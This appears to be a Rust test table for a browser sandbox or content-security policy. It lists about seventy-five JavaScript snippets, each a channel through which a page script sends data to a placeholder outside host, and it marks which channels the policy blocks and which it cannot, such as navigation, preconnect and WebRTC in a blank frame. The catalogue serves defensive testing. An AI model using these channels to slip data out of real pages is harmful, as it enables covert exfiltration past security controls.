//! The ways out, one a row.

use Arrival::{Connection, Packet, Request};
use Expected::{Blocked, CannotBeBlocked};

#[derive(Clone, Copy, Debug, PartialEq)]
pub(crate) enum Expected {
    Blocked,
    /// No policy that a page can set for itself stops it: SECURITY.md says so.
    CannotBeBlocked,
}

/// How it shows that something got out.
#[derive(Clone, Copy)]
pub(crate) enum Arrival {
    Request,
    /// A connection over which nothing is asked for yet.
    Connection,
    Packet,
}

pub(crate) struct Way {
    pub(crate) name: &'static str,
    pub(crate) arrival: Arrival,
    pub(crate) expected: Expected,
    /// Written in the words of `words.js`.
    pub(crate) script: &'static str,
}

const fn way(name: &'static str, arrival: Arrival, expected: Expected, script: &'static str) -> Way {
    Way { name, arrival, expected, script }
}

#[rustfmt::skip]
pub(crate) const WAYS: &[Way] = &[
    // Connections
    way("fetch", Request, Blocked, "fetch(away)"),
    way("fetch that outlives the page", Request, Blocked, "fetch(away, { method: 'POST', keepalive: true, body: 'word' })"),
    way("fetch when leaving", Request, Blocked, "fetchLater(away, { activateAfter: 0 })"),
    way("XMLHttpRequest", Request, Blocked, "const request = new XMLHttpRequest(); request.open('GET', away); request.send()"),
    way("beacon", Request, Blocked, "navigator.sendBeacon(away, 'word')"),
    way("WebSocket", Request, Blocked, "new WebSocket(away.replace('http', 'ws'))"),
    way("EventSource", Request, Blocked, "new EventSource(away)"),
    way("cache", Request, Blocked, "(await caches.open('way out')).add(away)"),
    way("WebSocketStream", Request, Blocked, "new WebSocketStream(away.replace('http', 'ws'))"),
    way("ping of a link", Request, Blocked, "add('a', { href: '#', ping: away }).click()"),
    way("manifest of a payment", Request, Blocked, "const total = { label: 'word', amount: { currency: 'EUR', value: '1' } };
        await new PaymentRequest([{ supportedMethods: away }], { total }).canMakePayment()"),
    way("provider of a sign-in", Request, Blocked, "navigator.credentials.get({ identity: { providers: [{ configURL: away, clientId: 'word' }] } })"),
    way("WebTransport", Packet, Blocked, "new WebTransport(`https://${door}/`)"),
    // Taken out of the page's own realm; a script that means harm finds it in another.
    way("WebRTC", Packet, Blocked, "callPeer(window)"),
    way("WebRTC of a blank frame", Packet, CannotBeBlocked, "callPeer(add('iframe').contentWindow)"),

    // Pictures, sound, other documents
    way("image", Request, Blocked, "add('img', { src: away })"),
    way("image that is not shown", Request, Blocked, "new Image().src = away"),
    way("image for a screen", Request, Blocked, "add('img', { srcset: `${away} 1x` })"),
    way("image on a button", Request, Blocked, "add('input', { type: 'image', src: away })"),
    way("image in a drawing", Request, Blocked, "draw('image', { href: away }, draw('svg'))"),
    way("image in a filter", Request, Blocked, "const drawing = draw('svg');
        draw('feImage', { href: away }, draw('filter', { id: 'way-out' }, drawing));
        draw('rect', { width: 9, height: 9, filter: 'url(#way-out)' }, drawing)"),
    way("part of another drawing", Request, Blocked, "draw('use', { href: `${here}#part` }, draw('svg'))"),
    way("background of the body", Request, Blocked, "document.body.setAttribute('background', away)"),
    way("video", Request, Blocked, "add('video', { src: away })"),
    way("picture before a video", Request, Blocked, "add('video', { poster: away })"),
    way("subtitles", Request, Blocked, "add('track', { src: here, default: '' }, add('video')).track.mode = 'showing'"),
    way("audio", Request, Blocked, "add('audio', { src: away })"),
    way("object", Request, Blocked, "add('object', { data: away })"),
    way("embed", Request, Blocked, "add('embed', { src: away })"),

    // Style
    way("style sheet", Request, Blocked, "link('stylesheet', away)"),
    way("import in a style sheet", Request, Blocked, "add('style').textContent = `@import url(${away})`"),
    way("url in a style attribute", Request, Blocked, "add('p', { style: `background: url(${away})` }).textContent = 'word'"),
    way("url in a style property", Request, Blocked, "add('p').style.background = `url(${away})`"),
    way("url in an adopted sheet", Request, Blocked, "adopt(`body { border-image: url(${away}) 1 }`)"),
    way("filter in an adopted sheet", Request, Blocked, "adopt(`body { filter: url(${here}#part) }`)"),
    way("font in an adopted sheet", Request, Blocked, "adopt(`@font-face { font-family: 'way out'; src: url(${away}) }`);
        adopt('body { font-family: \"way out\" }'); add('p').textContent = 'word'"),
    way("font", Request, Blocked, "new FontFace('way out', `url(${away})`).load()"),

    // Frames
    way("frame", Request, Blocked, "add('iframe', { src: away })"),
    way("frame with markup", Request, Blocked, "add('iframe', { srcdoc: `<img src=${away}>` })"),
    way("frame with a blob", Request, Blocked, "add('iframe', { src: blob('text/html', `<img src=${away}>`) })"),
    way("navigation of a blank frame", Request, Blocked, "add('iframe').contentWindow.location = away"),
    way("fetch of a blank frame", Request, Blocked, "add('iframe').contentWindow.fetch(away)"),

    // Scripts
    way("script", Request, Blocked, "add('script', { src: away })"),
    way("module", Request, Blocked, "add('script', { type: 'module', src: away })"),
    way("import", Request, Blocked, "import(away)"),
    way("script in the page", Request, Blocked, "insertScript('', `fetch('${away}')`)"),
    way("script in a handler", Request, Blocked, "add('p', { onclick: `fetch('${away}')` }).click()"),
    way("script in an address", Request, Blocked, "add('a', { href: `javascript:void fetch('${away}')` }).click()"),
    way("script from text", Request, Blocked, "setTimeout(`fetch('${away}')`)"),
    way("markup from text", Request, Blocked, "document.body.insertAdjacentHTML('beforeend', `<img src=${away}>`)"),
    way("worker", Request, Blocked, "new Worker(here)"),
    way("worker from a blob", Request, Blocked, "new Worker(blob('text/javascript', `fetch('${away}')`))"),
    way("shared worker", Request, Blocked, "new SharedWorker(here)"),
    way("service worker", Request, Blocked, "navigator.serviceWorker.register(here)"),
    way("paint worklet", Request, Blocked, "CSS.paintWorklet.addModule(away)"),
    way("audio worklet", Request, Blocked, "new AudioContext().audioWorklet.addModule(away)"),

    // Hints
    way("prefetch", Request, Blocked, "link('prefetch', away)"),
    way("preload", Request, Blocked, "link('preload', away, { as: 'image' })"),
    way("preload of a module", Request, Blocked, "link('modulepreload', away)"),
    // Sends no word but the name of the host, which the script can choose.
    way("preconnect", Connection, CannotBeBlocked, "link('preconnect', `http://${door}/`)"),
    way("prefetch by rule", Request, Blocked, "speculate('prefetch')"),
    way("prerender by rule", Request, Blocked, "speculate('prerender')"),
    way("icon", Request, Blocked, "link('icon', away)"),
    way("manifest", Request, Blocked, "link('manifest', away)"),
    way("compression dictionary", Request, Blocked, "link('compression-dictionary', away)"),

    // Other windows: after the rest, because they lie over the page, and a page that is covered asks for less
    way("image in a blank window", Request, Blocked, "add('img', { src: away }, blankWindow())"),
    way("form in a blank window", Request, Blocked, "add('form', { action: away }, blankWindow()).submit()"),
    way("window with a blob", Request, Blocked, "window.open(blob('text/html', `<img src=${away}>`))"),
    way("form in another window", Request, Blocked, "add('form', { action: away, method: 'post', target: '_blank' }).submit()"),
    way("window", Request, CannotBeBlocked, "window.open(away)"),

    // Leaving
    way("form", Request, Blocked, "add('form', { action: away }).submit()"),
    way("navigation", Request, CannotBeBlocked, "location = away"),
    way("link", Request, CannotBeBlocked, "add('a', { href: away }).click()"),
    way("refresh", Request, CannotBeBlocked, "add('meta', { 'http-equiv': 'refresh', content: `0; url=${away}` }, document.head)"),
    way("download", Request, CannotBeBlocked, "add('a', { href: here, download: 'word' }).click()"),
];
